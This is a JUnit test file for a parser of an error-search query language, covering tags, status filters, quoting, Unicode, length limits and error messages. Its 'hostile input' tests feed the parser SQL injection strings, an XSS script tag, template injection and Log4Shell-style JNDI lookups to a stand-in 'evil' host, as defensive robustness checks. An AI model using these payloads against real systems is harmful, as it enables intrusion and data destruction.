package io.lookout.query.language;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import io.lookout.grouping.GroupStatus;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class QueryParserTest {

    private static final Pattern KEY = Pattern.compile("[A-Za-z0-9_.-]{1,64}");
    private static final Pattern TYPE = Pattern.compile("[a-z0-9][a-z0-9_-]{0,63}");

    // ---- helpers ------------------------------------------------------------------------------

    private static List<Term> terms(String query) throws QuerySyntaxException {
        return QueryParser.parse(query).terms();
    }

    private static QuerySyntaxException error(String query) {
        return assertThrows(QuerySyntaxException.class, () -> QueryParser.parse(query), () -> "should reject " + query);
    }

    private static TagTerm tag(String key, String value) {
        return new TagTerm(key, value, false);
    }

    private static TextTerm text(String text) {
        return new TextTerm(text, false);
    }

    private static TextTerm phrase(String text) {
        return new TextTerm(text, false, true);
    }

    private static String repeat(char c, int n) {
        return String.valueOf(c).repeat(n);
    }

    // ---- empty -------------------------------------------------------------------------------

    @ParameterizedTest
    @NullSource
    @ValueSource(strings = {"", " ", "\t", "  \t  ", "\u00A0", "\u2003", "\u3000", "\u2028", " \u202F\t\u205F "})
    void emptyOrBlankIsTheEmptyQuery(String query) throws QuerySyntaxException {
        Query parsed = QueryParser.parse(query);
        assertSame(Query.EMPTY, parsed);
        assertTrue(parsed.isEmpty());
    }

    @Test
    void queryRecord() throws QuerySyntaxException {
        assertTrue(Query.EMPTY.isEmpty());
        assertTrue(Query.EMPTY.terms().isEmpty());
        Query query = QueryParser.parse("a b");
        assertEquals(false, query.isEmpty());
        assertThrows(UnsupportedOperationException.class, () -> query.terms().add(text("c")));
        List<Term> mutable = new ArrayList<>(List.of(text("x")));
        Query copy = new Query(mutable);
        mutable.clear();
        assertEquals(List.of(text("x")), copy.terms());
    }

    // ---- every construct ---------------------------------------------------------------------

    static Stream<Arguments> singleTerms() {
        return Stream.of(
                // tags
                Arguments.of("url:/checkout", tag("url", "/checkout")),
                Arguments.of("url:\"a value\"", tag("url", "a value")),
                Arguments.of("!url:/checkout", new TagTerm("url", "/checkout", true)),
                Arguments.of("!url:\"a value\"", new TagTerm("url", "a value", true)),
                Arguments.of("level:error", tag("level", "error")),
                Arguments.of("sentry.release:1.2.3", tag("sentry.release", "1.2.3")),
                Arguments.of("my-key_2.x:v", tag("my-key_2.x", "v")),
                Arguments.of("--:v", tag("--", "v")),
                Arguments.of("K:v", tag("K", "v")),
                Arguments.of("IS:resolved", tag("IS", "resolved")),
                Arguments.of("Type:Exception", tag("Type", "Exception")),
                Arguments.of("project:shop", tag("project", "shop")),
                Arguments.of("key:!value", tag("key", "!value")),
                Arguments.of("key:a!", tag("key", "a!")),
                // null is just text
                Arguments.of("key:\"null\"", tag("key", "null")),
                Arguments.of("key:null", tag("key", "null")),
                Arguments.of("!key:\"null\"", new TagTerm("key", "null", true)),
                // the empty string
                Arguments.of("url:\"\"", tag("url", "")),
                Arguments.of("!url:\"\"", new TagTerm("url", "", true)),
                // colons in values
                Arguments.of("url:https://shop/x?a=b", tag("url", "https://shop/x?a=b")),
                Arguments.of("a:b:c", tag("a", "b:c")),
                Arguments.of("time:12:30:00", tag("time", "12:30:00")),
                Arguments.of("k::", tag("k", ":")),
                Arguments.of("url:\"https://shop/x?a=b c\"", tag("url", "https://shop/x?a=b c")),
                Arguments.of("http://example.com", tag("http", "//example.com")),
                // escapes
                Arguments.of("msg:\"say \\\"hi\\\"\"", tag("msg", "say \"hi\"")),
                Arguments.of("path:\"C:\\\\temp\"", tag("path", "C:\\temp")),
                Arguments.of("k:\"\\\\\"", tag("k", "\\")),
                Arguments.of("k:\"\\\"\"", tag("k", "\"")),
                Arguments.of("k:\"\\\\\\\"\"", tag("k", "\\\"")),
                // no escapes outside quotes
                Arguments.of("path:C:\\temp", tag("path", "C:\\temp")),
                Arguments.of("k:a\\b\\", tag("k", "a\\b\\")),
                // quoted values keep whitespace, tab, colons, '!' and anything else
                Arguments.of("k:\"  padded  \"", tag("k", "  padded  ")),
                Arguments.of("k:\"a\tb\"", tag("k", "a\tb")),
                Arguments.of("k:\"a\u00A0b\u3000c\"", tag("k", "a\u00A0b\u3000c")),
                Arguments.of("k:\"!has:x is:open\"", tag("k", "!has:x is:open")),
                Arguments.of("k:\"'\"", tag("k", "'")),
                // unicode
                Arguments.of("city:Zürich", tag("city", "Zürich")),
                Arguments.of("user:\"山田 太郎\"", tag("user", "山田 太郎")),
                Arguments.of("emoji:😀", tag("emoji", "😀")),
                Arguments.of("k:\"😀 👍🏽\"", tag("k", "😀 👍🏽")),
                Arguments.of("rtl:\u202Eabc", tag("rtl", "\u202Eabc")),
                Arguments.of("k:a\u200Bb", tag("k", "a\u200Bb")),
                // has
                Arguments.of("has:release", new HasTerm("release", false)),
                Arguments.of("!has:release", new HasTerm("release", true)),
                Arguments.of("has:sentry.release", new HasTerm("sentry.release", false)),
                Arguments.of("has:has", new HasTerm("has", false)),
                Arguments.of("has:\"release\"", new HasTerm("release", false)),
                // type
                Arguments.of("type:exception", new TypeTerm("exception", false)),
                Arguments.of("!type:message", new TypeTerm("message", true)),
                Arguments.of("type:my_type-2", new TypeTerm("my_type-2", false)),
                Arguments.of("type:0abc", new TypeTerm("0abc", false)),
                Arguments.of("type:\"csp\"", new TypeTerm("csp", false)),
                // status
                Arguments.of("is:unresolved", new StatusTerm(GroupStatus.UNRESOLVED, false)),
                Arguments.of("is:resolved", new StatusTerm(GroupStatus.RESOLVED, false)),
                Arguments.of("is:ignored", new StatusTerm(GroupStatus.IGNORED, false)),
                Arguments.of("!is:ignored", new StatusTerm(GroupStatus.IGNORED, true)),
                Arguments.of("is:\"resolved\"", new StatusTerm(GroupStatus.RESOLVED, false)),
                // bookmarks and assignment
                Arguments.of("is:bookmarked", new BookmarkedTerm(false)),
                Arguments.of("!is:bookmarked", new BookmarkedTerm(true)),
                Arguments.of("assigned:me", new AssignedTerm(AssignedTerm.Who.ME, null, false)),
                Arguments.of("assigned:none", new AssignedTerm(AssignedTerm.Who.NONE, null, false)),
                Arguments.of("!assigned:none", new AssignedTerm(AssignedTerm.Who.NONE, null, true)),
                Arguments.of("assigned:ann.b", new AssignedTerm(AssignedTerm.Who.USER, "ann.b", false)),
                Arguments.of("assigned:\"ann b\"", new AssignedTerm(AssignedTerm.Who.USER, "ann b", false)),
                Arguments.of("!assigned:me", new AssignedTerm(AssignedTerm.Who.ME, null, true)),
                Arguments.of("assigned", text("assigned")),
                // text
                Arguments.of("timeout", text("timeout")),
                Arguments.of("!timeout", new TextTerm("timeout", true)),
                Arguments.of("\"connection reset\"", phrase("connection reset")),
                Arguments.of("!\"connection reset\"", new TextTerm("connection reset", true, true)),
                Arguments.of("\"Error: timeout\"", phrase("Error: timeout")),
                Arguments.of("\"!important\"", phrase("!important")),
                Arguments.of("\"say \\\"hi\\\"\"", phrase("say \"hi\"")),
                Arguments.of("\" \"", phrase(" ")),
                Arguments.of("is", text("is")),
                Arguments.of("has", text("has")),
                Arguments.of("type", text("type")),
                Arguments.of("it's", text("it's")),
                Arguments.of("a!b", text("a!b")),
                Arguments.of("!a!b", new TextTerm("a!b", true)),
                Arguments.of("100%", text("100%")),
                Arguments.of("*", text("*")),
                Arguments.of("x\\y", text("x\\y")),
                Arguments.of("NullPointerException", text("NullPointerException")),
                Arguments.of("ошибка", text("ошибка")),
                Arguments.of("\"ошибка соединения\"", phrase("ошибка соединения")),
                Arguments.of("😀", text("😀")),
                Arguments.of("null", text("null")));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("singleTerms")
    void singleTerm(String query, Term expected) throws QuerySyntaxException {
        assertEquals(List.of(expected), terms(query));
        assertEquals(List.of(expected), terms("  " + query + "\t"), "with surrounding whitespace");
    }

    // ---- combinations ------------------------------------------------------------------------

    @Test
    void combination() throws QuerySyntaxException {
        assertEquals(
                List.of(
                        new TypeTerm("exception", false),
                        tag("url", "/checkout"),
                        new HasTerm("release", true),
                        new StatusTerm(GroupStatus.UNRESOLVED, false),
                        phrase("connection reset")),
                terms("type:exception url:/checkout !has:release is:unresolved \"connection reset\""));
    }

    @Test
    void combinationKeepsOrderAndDuplicates() throws QuerySyntaxException {
        assertEquals(
                List.of(
                        new TextTerm("timeout", true),
                        tag("url", "a"),
                        tag("url", "a"),
                        new TagTerm("browser", "Firefox 120", true),
                        text("checkout"),
                        new StatusTerm(GroupStatus.RESOLVED, true),
                        new TypeTerm("message", true),
                        new HasTerm("user.id", false)),
                terms("!timeout url:a url:a !browser:\"Firefox 120\" checkout !is:resolved !type:message has:user.id"));
    }

    static Stream<String> separators() {
        return Stream.of(
                " ", "   ", "\t", " \t ", "\u00A0", "\u2003", "\u3000", "\u2028", "\u2029", "\u202F", "\u205F",
                "\u1680", "\u2000", "\u200A");
    }

    @ParameterizedTest
    @MethodSource("separators")
    void anyUnicodeWhitespaceSeparatesTerms(String ws) throws QuerySyntaxException {
        assertEquals(
                List.of(
                        new TypeTerm("exception", false),
                        tag("url", "a b"),
                        new HasTerm("release", true),
                        phrase("connection reset"),
                        text("x")),
                terms(ws + "type:exception" + ws + "url:\"a b\"" + ws + "!has:release" + ws + "\"connection reset\""
                        + ws + "x" + ws));
    }

    @Test
    void nullValueIsTextWhileMissingIsNotHas() throws QuerySyntaxException {
        assertEquals(List.of(tag("release", "null")), terms("release:\"null\""));
        assertEquals(List.of(tag("release", "null")), terms("release:null"));
        assertEquals(List.of(new HasTerm("release", true)), terms("!has:release"));
        assertEquals(List.of(tag("release", "")), terms("release:\"\""));
    }

    @Test
    void adjacentQuotedTermsNeedWhitespace() throws QuerySyntaxException {
        assertEquals(List.of(phrase("a"), phrase("b")), terms("\"a\" \"b\""));
        assertEquals(List.of(tag("k", "a"), tag("j", "b")), terms("k:\"a\" j:\"b\""));
        assertEquals(8, error("k:\"a\"j:\"b\"").position() + 3);
    }

    @Test
    void termsAreASealedHierarchy() throws QuerySyntaxException {
        List<String> kinds = new ArrayList<>();
        for (Term term : terms("k:v has:k type:t is:ignored w")) {
            kinds.add(describe(term));
        }
        assertEquals(List.of("tag k=v", "has k", "type t", "is ignored", "text w"), kinds);
    }

    private static String describe(Term term) {
        // compiles without a default because Term is sealed
        if (term instanceof TagTerm t) {
            return "tag " + t.key() + "=" + t.value();
        } else if (term instanceof HasTerm h) {
            return "has " + h.key();
        } else if (term instanceof TypeTerm t) {
            return "type " + t.type();
        } else if (term instanceof StatusTerm s) {
            return "is " + s.status().wireName();
        } else if (term instanceof TextTerm t) {
            return "text " + t.text();
        }
        throw new AssertionError(term);
    }

    // ---- errors ------------------------------------------------------------------------------

    static Stream<Arguments> errors() {
        String key65 = repeat('k', 65);
        return Stream.of(
                // empty values
                Arguments.of("url:", 4, "empty value after 'url:'"),
                Arguments.of("url: x", 4, "empty value after 'url:'"),
                Arguments.of("a url:\tb", 6, "empty value after 'url:'"),
                Arguments.of("NullPointerException: boom", 21, "empty value after 'NullPointerException:'"),
                Arguments.of("has:", 4, "expected a tag key"),
                Arguments.of("!has: x", 5, "expected a tag key"),
                Arguments.of("has:\"\"", 5, "expected a tag key"),
                Arguments.of("type:", 5, "expected an event type"),
                Arguments.of("type:\"\"", 6, "expected an event type"),
                Arguments.of("is:", 3, "expected unresolved, resolved, ignored or bookmarked"),
                Arguments.of("assigned:", 9, "expected me, none or a user name"),
                Arguments.of("assigned:\"\"", 10, "expected me, none or a user name"),
                Arguments.of("assigned:" + repeat('x', 101), 109, "longer than 100"),
                // is:
                Arguments.of("is:open", 3, "'is:' expects unresolved, resolved, ignored or bookmarked, not 'open'"),
                Arguments.of("x is:Resolved", 5, "not 'Resolved'"),
                Arguments.of("is:\"\"", 4, "not ''"),
                Arguments.of("is:\"resolved \"", 4, "not 'resolved '"),
                Arguments.of("!is:all", 4, "'is:' expects"),
                // type:
                Arguments.of("type:Exception", 5, "invalid event type 'Exception'"),
                Arguments.of("type:exc.eption", 8, "invalid event type"),
                Arguments.of("type:_x", 5, "invalid event type"),
                Arguments.of("type:-x", 5, "invalid event type"),
                Arguments.of("type:\"exc eption\"", 9, "invalid event type"),
                Arguments.of("type:" + repeat('a', 65), 69, "longer than 64"),
                // has:
                Arguments.of("has:ur/l", 6, "invalid character '/' in key 'ur/l' after 'has:'"),
                Arguments.of("has:a:b", 5, "invalid character ':'"),
                Arguments.of("has:\"a b\"", 6, "invalid character U+0020"),
                Arguments.of("has:\"a\\\"b\"", 6, "invalid character"),
                Arguments.of("has:" + key65, 68, "key after 'has:' is longer than 64"),
                // keys
                Arguments.of(":x", 0, "missing key before ':'"),
                Arguments.of("a :x", 2, "missing key before ':'"),
                Arguments.of("!:x", 1, "missing key before ':'"),
                Arguments.of("ur$l:x", 2, "invalid character '$' in key 'ur$l'"),
                Arguments.of("ключ:x", 0, "invalid character 'к' in key"),
                Arguments.of("😀:x", 0, "invalid character '😀' in key"),
                Arguments.of("a\u00ADb:x", 1, "invalid character U+00AD"),
                Arguments.of(key65 + ":v", 64, "key is longer than 64 characters"),
                Arguments.of("!" + key65 + ":v", 65, "key is longer than 64 characters"),
                // values
                Arguments.of("url:" + repeat('x', 201), 204, "value after 'url:' is longer than 200 characters"),
                Arguments.of("url:\"" + repeat('x', 201) + "\"", 205, "longer than 200"),
                Arguments.of("url:\"" + "\\\"".repeat(201) + "\"", 405, "longer than 200"),
                Arguments.of("is:" + repeat('x', 201), 203, "longer than 200"),
                Arguments.of("url:a\"b", 5, "'\"' inside an unquoted value"),
                Arguments.of("url:a\"b c\"", 5, "'\"' inside an unquoted value"),
                // words
                Arguments.of("foo\"bar", 3, "'\"' inside a word"),
                Arguments.of("5\"", 1, "'\"' inside a word"),
                Arguments.of("ab\"", 2, "'\"' inside a word"),
                // quotes
                Arguments.of("title:\"abc", 6, "unterminated quoted value starting at column 7"),
                Arguments.of("title:\"abc def", 6, "unterminated quoted value starting at column 7"),
                Arguments.of("k:\"abc\\\"", 2, "unterminated quoted value starting at column 3"),
                Arguments.of("k:\"abc\\", 2, "unterminated quoted value"),
                Arguments.of("k:\"", 2, "unterminated quoted value"),
                Arguments.of("\"abc", 0, "unterminated quoted phrase starting at column 1"),
                Arguments.of("a \"", 2, "unterminated quoted phrase starting at column 3"),
                Arguments.of("!\"abc", 1, "unterminated quoted phrase"),
                Arguments.of("k:\"a\\nb\"", 4, "unknown escape '\\n'"),
                Arguments.of("k:\"a\\'b\"", 4, "unknown escape"),
                Arguments.of("\"a\\tb\"", 2, "unknown escape '\\t'"),
                Arguments.of("k:\"a\\😀\"", 4, "unknown escape '\\😀'"),
                Arguments.of("k:\"ab\"c", 6, "expected whitespace after the closing '\"' at column 6, not 'c'"),
                Arguments.of("k:\"ab\":c", 6, "expected whitespace after the closing"),
                Arguments.of("\"ab\"c", 4, "expected whitespace after the closing"),
                Arguments.of("\"ab\"!x", 4, "expected whitespace after the closing"),
                Arguments.of("\"key\":value", 5, "expected whitespace after the closing"),
                Arguments.of("\"a\"\"b\"", 3, "expected whitespace after the closing"),
                Arguments.of("\"\"", 0, "empty quoted phrase"),
                Arguments.of("x !\"\"", 3, "empty quoted phrase"),
                // negation
                Arguments.of("!", 0, "'!' must be followed directly by a term"),
                Arguments.of("a !", 2, "'!' must be followed directly by a term"),
                Arguments.of("! x", 0, "'!' must be followed directly by a term"),
                Arguments.of("!\tx", 0, "'!' must be followed directly by a term"),
                Arguments.of("!!x", 1, "'!!' is not allowed"),
                Arguments.of("!!", 1, "'!!' is not allowed"),
                Arguments.of("x !!has:y", 3, "'!!' is not allowed"),
                // control characters and broken surrogates
                Arguments.of("a\nb", 1, "control character U+000A"),
                Arguments.of("\r\n", 0, "control character U+000D"),
                Arguments.of("a\u000Bb", 1, "control character U+000B"),
                Arguments.of("a\u001Fb", 1, "control character U+001F"),
                Arguments.of("url:\"a\u0000\"", 6, "control character U+0000"),
                Arguments.of("url:a\u0000", 5, "control character U+0000"),
                Arguments.of("k\u0000:v", 1, "control character U+0000"),
                Arguments.of("k:\"\u001B[31mred\"", 3, "control character U+001B"),
                Arguments.of("x\u007F", 1, "control character U+007F"),
                Arguments.of("a\u0085b", 1, "control character U+0085"),
                Arguments.of("k:\"a\\\u0000\"", 5, "control character U+0000"),
                Arguments.of("a\uD800", 1, "U+D800 (half of a surrogate pair)"),
                Arguments.of("\uDC00", 0, "U+DC00 (half of a surrogate pair)"),
                Arguments.of("k:\"\uD800x\"", 3, "half of a surrogate pair"),
                Arguments.of("\uD83D\uDE00\uDE00", 2, "half of a surrogate pair"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("errors")
    void error(String query, int position, String message) {
        QuerySyntaxException e = error(query);
        assertAll(
                () -> assertEquals(position, e.position(), () -> "position in " + query + ": " + e.getMessage()),
                () -> assertTrue(
                        e.getMessage().contains(message),
                        () -> "'" + e.getMessage() + "' should contain '" + message + "'"));
    }

    @Test
    void messagesSayWhatIsWrongAndWhatWasExpected() {
        assertEquals(
                "'is:' expects unresolved, resolved, ignored or bookmarked, not 'open'",
                error("is:open").getMessage());
        assertEquals(
                "unterminated quoted value starting at column 7: expected a closing '\"'",
                error("title:\"abc").getMessage());
        assertEquals(
                "empty value after 'url:': expected url:value, or url:\"\" for the empty string",
                error("url:").getMessage());
        assertEquals(
                "'!' must be followed directly by a term, without a space, e.g. !has:release",
                error("!").getMessage());
    }

    @Test
    void longValuesAreCutShortInMessages() {
        String message = error("is:" + repeat('x', 150)).getMessage();
        assertTrue(message.endsWith("not '" + repeat('x', 40) + "…'"), message);
    }

    @Test
    void theFirstMistakeIsReported() {
        assertEquals(4, error("url: is:open \"abc").position());
        assertEquals(3, error("is:open \"abc").position());
    }

    // ---- limits ------------------------------------------------------------------------------

    @Test
    void longestKeysValuesAndTypesAreAccepted() throws QuerySyntaxException {
        String key = repeat('k', 64);
        String value = repeat('v', 200);
        assertEquals(List.of(tag(key, value)), terms(key + ":" + value));
        assertEquals(List.of(tag(key, value)), terms(key + ":\"" + value + "\""));
        assertEquals(List.of(tag("k", repeat('"', 200))), terms("k:\"" + "\\\"".repeat(200) + "\""));
        assertEquals(List.of(tag("k", "😀".repeat(100))), terms("k:" + "😀".repeat(100)));
        assertEquals(List.of(new HasTerm(key, true)), terms("!has:" + key));
        assertEquals(List.of(new TypeTerm(repeat('t', 64), false)), terms("type:" + repeat('t', 64)));
    }

    @Test
    void valueLengthIsCountedInUtf16Chars() {
        // 100 emoji are 200 chars; one more character is one too many
        assertEquals(202, error("k:" + "😀".repeat(101)).position());
        assertEquals(202, error("k:" + "😀".repeat(100) + "x").position());
    }

    @Test
    void queryOfExactly1000CharactersIsAccepted() throws QuerySyntaxException {
        String value = repeat('v', 197); // "kN:" + 197 = 200 characters
        String query =
                IntStream.range(1, 5).mapToObj(i -> "k" + i + ":" + value).collect(Collectors.joining(" ")) + " "
                        + repeat('w', 196);
        assertEquals(1000, query.length());
        List<Term> terms = terms(query);
        assertEquals(5, terms.size());
        assertEquals(text(repeat('w', 196)), terms.get(4));
        assertEquals(List.of(text(repeat('w', 1000))), terms(repeat('w', 1000)));
        assertSame(Query.EMPTY, QueryParser.parse(repeat(' ', 1000)));
    }

    @ParameterizedTest
    @ValueSource(ints = {1001, 1002, 5000, 1_000_000})
    void queryLongerThan1000CharactersIsRejectedAtTheLimit(int length) {
        QuerySyntaxException e = error(repeat('w', length));
        assertEquals(1000, e.position());
        assertEquals("query is too long: at most 1000 characters are allowed, this one has " + length, e.getMessage());
        assertEquals(1000, error(repeat(' ', length)).position(), "whitespace counts too");
    }

    @Test
    void twentyTermsAreAccepted() throws QuerySyntaxException {
        String query = IntStream.range(0, 20).mapToObj(i -> "w" + i).collect(Collectors.joining(" "));
        assertEquals(20, terms(query).size());
        assertEquals(20, terms("  " + query + "   ").size(), "trailing whitespace is no term");
    }

    @ParameterizedTest
    @ValueSource(strings = {"w", "!w", "k:v", "\"a b\"", "!has:x"})
    void theTwentyFirstTermIsRejectedWhereItStarts(String extra) {
        String twenty = IntStream.range(0, 20).mapToObj(i -> "w" + i).collect(Collectors.joining(" "));
        QuerySyntaxException e = error(twenty + "  " + extra + " more");
        assertEquals(twenty.length() + 2, e.position());
        assertTrue(
                e.getMessage()
                        .startsWith("too many terms: at most 20 are allowed, term 21 starts at column "
                                + (twenty.length() + 3)),
                e.getMessage());
    }

    // ---- hostile input -----------------------------------------------------------------------

    @Test
    void sqlIsPlainText() throws QuerySyntaxException {
        assertEquals(
                List.of(tag("url", "';"), text("DROP"), text("TABLE"), text("x;"), text("--")),
                terms("url:'; DROP TABLE x; --"));
        assertEquals(List.of(tag("url", "'; DROP TABLE x; --")), terms("url:\"'; DROP TABLE x; --\""));
        assertEquals(List.of(text("'"), text("OR"), text("1=1"), text("--")), terms("' OR 1=1 --"));
        assertEquals(
                List.of(tag("k", "%"), tag("j", "_"), new WildcardTerm("l", List.of("", ""), false), text("%_%")),
                terms("k:% j:_ l:* %_%"));
        assertEquals(List.of(tag("k", "1' OR '1'='1")), terms("k:\"1' OR '1'='1\""));
        assertEquals(List.of(tag("k", "a\\\\b")), terms("k:a\\\\b"));
        assertEquals(List.of(text("<script>alert(1)</script>")), terms("<script>alert(1)</script>"));
        assertEquals(List.of(text("{{7*7}}")), terms("{{7*7}}"));
        assertEquals(List.of(tag("k", "${jndi:ldap://x/a}")), terms("k:${jndi:ldap://x/a}"));
    }

    static Stream<String> hostile() {
        return Stream.of(
                "url:'; DROP TABLE x; --",
                "'; DROP TABLE events; --",
                "\" OR \"\"=\"",
                "\\",
                "\\\\\"",
                "\"\\",
                "\"\"\"",
                "\"\"\"\"",
                "::::",
                "!:",
                "!\"",
                "!!!!",
                "k:\"\\\"",
                "${jndi:ldap://evil/a}",
                "%00",
                "\u0000",
                "a\u0000b",
                "\uFEFFk:v",
                "\uFFFF",
                "\uFFFE:x",
                "k:\uDBFF\uDFFF",
                "\uDBFF",
                "\uDFFF\uDBFF",
                "\u202E\u202Dk:v",
                "k:\u0301",
                "\u0301",
                "﷽",
                "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
                "k:\"" + repeat('x', 994) + "\"",
                repeat('"', 1000),
                repeat(':', 1000),
                repeat('!', 1000),
                "!" + repeat('a', 999),
                "k:" + repeat('\\', 998),
                "\"" + "\\\\".repeat(499) + "\"",
                "\"" + "\\".repeat(999),
                repeat('\t', 1000),
                "\u0085",
                "a:\"b\" c:\"d\"e:\"f\"",
                "is:resolved\u0000",
                "type:\u00e9",
                "has:\u0130",
                "is:RESOLVED",
                "type:EXCEPTION");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileInputIsParsedOrRejectedButNeverCrashes(String query) {
        checkParsesOrRejects(query);
    }

    @Test
    void randomInputIsParsedOrRejectedButNeverCrashes() {
        String alphabet = "aZ09_.-:!\"\\ \t\n\u0000\u00A0\u3000'%;*$éк😀\uD800\uDC00";
        Random random = new Random(20261128);
        int parsed = 0;
        for (int n = 0; n < 20_000; n++) {
            int length = random.nextInt(n % 100 == 0 ? 1100 : 40);
            StringBuilder query = new StringBuilder(length);
            for (int i = 0; i < length; i++) {
                query.append(alphabet.charAt(random.nextInt(alphabet.length())));
            }
            if (checkParsesOrRejects(query.toString())) {
                parsed++;
            }
        }
        assertTrue(parsed > 100, "some random queries should parse: " + parsed);
    }

    /** Parses or rejects the query and checks what comes out; true when it parsed. */
    private static boolean checkParsesOrRejects(String query) {
        Query parsed;
        try {
            parsed = QueryParser.parse(query);
        } catch (QuerySyntaxException e) {
            assertTrue(e.position() >= 0 && e.position() <= query.length(), () -> "position " + e.position());
            assertTrue(e.getMessage() != null && !e.getMessage().isBlank());
            assertTrue(
                    e.getMessage().chars().noneMatch(c -> Character.isISOControl(c) && c != '\t'),
                    "no control characters in messages");
            return false;
        } catch (RuntimeException e) {
            fail(
                    "unchecked exception for "
                            + query.codePoints()
                                    .limit(50)
                                    .mapToObj(Integer::toHexString)
                                    .toList(),
                    e);
            return false;
        }
        assertTrue(query.length() <= 1000);
        assertTrue(parsed.terms().size() <= 20);
        for (Term term : parsed.terms()) {
            if (term instanceof TagTerm t) {
                assertTrue(KEY.matcher(t.key()).matches(), t.key());
                assertTrue(t.value().length() <= 200);
                checkText(t.value());
            } else if (term instanceof HasTerm h) {
                assertTrue(KEY.matcher(h.key()).matches(), h.key());
            } else if (term instanceof TypeTerm t) {
                assertTrue(TYPE.matcher(t.type()).matches(), t.type());
            } else if (term instanceof StatusTerm s) {
                assertTrue(s.status() != null, "a status term names a status");
            } else if (term instanceof TextTerm t) {
                assertTrue(!t.text().isEmpty());
                checkText(t.text());
            }
        }
        return true;
    }

    /** No control characters but tab, no broken surrogate pairs. */
    private static void checkText(String text) {
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            assertTrue(!Character.isISOControl(c) || c == '\t', "control character");
            if (Character.isHighSurrogate(c)) {
                assertTrue(i + 1 < text.length() && Character.isLowSurrogate(text.charAt(++i)), "broken pair");
            } else {
                assertTrue(!Character.isLowSurrogate(c), "broken pair");
            }
        }
    }
}
